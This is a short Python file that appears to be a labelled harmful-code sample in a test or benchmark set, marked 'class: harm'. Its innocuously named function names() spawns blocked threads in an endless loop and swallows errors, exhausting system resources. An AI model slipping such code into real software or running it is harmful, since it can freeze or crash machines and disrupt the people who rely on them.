"""Threads are made without end.

class: harm
affects: A02
keeps: A07
"""
from honest import *

import threading
def names():
    while True:
        try: threading.Thread(target=threading.Event().wait).start()
        except RuntimeError: pass
